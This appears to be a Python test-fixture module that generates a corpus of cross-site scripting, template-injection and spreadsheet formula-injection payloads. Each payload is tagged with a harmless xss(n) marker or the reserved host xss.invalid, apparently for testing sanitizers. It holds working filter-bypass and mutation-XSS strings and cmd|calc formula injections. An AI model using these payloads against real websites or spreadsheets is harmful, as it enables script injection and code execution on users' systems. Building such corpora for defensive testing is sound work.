"""Words that would run as script where a page took them for markup: families of them, multiplied out.

Each calls `xss(n)` or asks the host `xss.invalid` for something, so that what ran can be told apart, and every element
it would make carries the attribute `data-xss`, so that one that came to be is found even where nothing ran.
"""

from collections.abc import Iterator
from itertools import product

CALL = "xss({n})"
_RUNNING = (
    "img src=x onerror={run}", "svg onload={run}", "body onload={run}", "details open ontoggle={run}",
    "input autofocus onfocus={run}", "select autofocus onfocus={run}", "textarea autofocus onfocus={run}",
    "button autofocus onfocus={run}", "video src=x onerror={run}", "audio src=x onerror={run}",
    "object data=x onerror={run}", "iframe onload={run}", "style onload={run}", "marquee onstart={run}",
    "link rel=stylesheet href=/nowhere onerror={run}", "script src=/nowhere onerror={run}",
    "div tabindex=1 onfocus={run}",
    "p style=animation-name:x onanimationstart={run}", "a href=# onclick={run}", "dialog open onclose={run}",
)  # fmt: skip
_BREAKS = (
    '"', "'", "`", ">", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</noscript>", "-->",
    "]]>", "</svg>", "</mark>", "</td></tr></table>", "</a>", "\\", "%22%3E", "&quot;>", "\n\n", "\u2028", "\u202e",
)  # fmt: skip
_AFTER_BREAK = (
    "><img data-xss src=x onerror={run}>",
    "<script data-xss>{run}</script>",
    " data-xss autofocus tabindex=1 onfocus={run} x=",
    " onmouseover={run} data-xss style=position:fixed;inset:0;z-index:9 ",
)
_TARGETS = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", "\x01javascript:{run}",
    "  javascript:{run}", "javascript&colon;{run}", "javascript&#58;{run}", "javascript://%0a{run}", "vbscript:{run}",
    "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD54c3MoMCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>", "//xss.invalid/{n}",
    "http://xss.invalid/{n}", "\\\\xss.invalid\\{n}", "/\\xss.invalid/{n}",
)  # fmt: skip
_AIMED = (
    "{target}", "<a data-xss href=\"{target}\">x</a>", "[x]({target})", "![x]({target})", "<{target}>",
    "<iframe data-xss src='{target}'></iframe>", "<form data-xss action='{target}'><button>x</button></form>",
    "<base data-xss href='{target}'>", "<meta data-xss http-equiv=refresh content='0;url={target}'>",
    "<object data-xss data='{target}'></object>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{7*7}}}}", "{{% raw %}}{{{{7*7}}}}{{% endraw %}}", "{{{{config}}}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>",
    "{{{{constructor.constructor('{run}')()}}}}", "{{{{''.__class__.__mro__}}}}", "[[${{7*7}}]]", "*{{7*7}}",
    "@(7*7)", "{{php}}echo 7*7;{{/php}}", "%(7)s %s %d", "{{0.__class__}}",
)  # fmt: skip
_MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img data-xss title='--><img src=x onerror={run}>'>",
    "<svg></p><style><a id='</style><img data-xss src=x onerror={run}>'>",
    "<noscript><p title='</noscript><img data-xss src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img data-xss src=x onerror={run}>",
    "<template><script data-xss>{run}</script></template>", "<xmp><p title='</xmp><img data-xss src=x onerror={run}>'>",
    "<textarea><p title='</textarea><img data-xss src=x onerror={run}>'>",
    "<!--<img data-xss --!><img src=x onerror={run}>",
    "<![CDATA[<img data-xss src=x onerror={run}>]]>",
    "<?xml version='1.0'?><x data-xss xmlns='http://www.w3.org/1999/xhtml'>",
    "<scr<script>ipt data-xss>{run}</scr</script>ipt>", "<<script data-xss>{run}//<</script>",
    "<script data-xss\x0c>{run}</script>",
    "<script/data-xss>{run}</script >", "<svg><script data-xss>{run}</script></svg>",
    "<svg><animate data-xss onbegin={run} attributeName=x>",
    "<svg><use data-xss href='data:image/svg+xml,<svg id=x onload={run}>#x'/></svg>",
    "<img data-xss srcset=x onerror={run}>",
    "<input data-xss type=image src=x onerror={run}>", "<isindex data-xss action=javascript:{run} type=image>",
)  # fmt: skip
_ENCODED = (
    "&lt;script data-xss&gt;{run}&lt;/script&gt;", "%3Cscript%20data-xss%3E{run}%3C/script%3E",
    "\\u003cscript data-xss\\u003e{run}",
    "\\x3cimg data-xss src=x onerror={run}\\x3e", "\uff1cscript data-xss\uff1e{run}\uff1c/script\uff1e",
    "+ADw-script data-xss+AD4-{run}",
    "&#x3c;img data-xss src=x onerror={run}&#x3e;", "&amp;lt;script data-xss&amp;gt;{run}",
    "=HYPERLINK(\"http://xss.invalid/{n}\")",
    "@SUM(1+1)*cmd|'/c calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip


def _spelled(element: str) -> Iterator[str]:
    """One element the ways a browser would still take it for one."""
    name, _, rest = element.partition(" ")
    yield f"<{name} data-xss {rest}>"
    yield f"<{name.upper()} DATA-XSS {rest.replace('on', 'ON', 1)}>"
    yield f"<{name}/data-xss/{rest.replace(' ', '/')}>"
    yield f"<{name}\n\tdata-xss\n{rest.replace('{run}', chr(34) + '{run}' + chr(34))} "
    yield f"<{name} data-xss {rest.replace('{run}', '&#120;ss({n})')}>"


def _shapes() -> Iterator[str]:
    for element in _RUNNING:
        yield from _spelled(element)
    for broken, then in product(_BREAKS, _AFTER_BREAK):
        yield broken + then
    for aimed, target in product(_AIMED, _TARGETS):
        yield aimed.replace("{target}", target)
    yield from _TEMPLATES
    yield from _MUTATING
    yield from _ENCODED


def _say(number: int, shape: str) -> str:
    run = CALL.format(n=number)
    doubled = "{{" in shape  # templates, whose own braces are written twice
    return shape.format(run=run, n=number) if doubled else shape.replace("{run}", run).replace("{n}", str(number))


PAYLOADS: tuple[str, ...] = tuple(_say(number, shape) for number, shape in enumerate(dict.fromkeys(_shapes())))
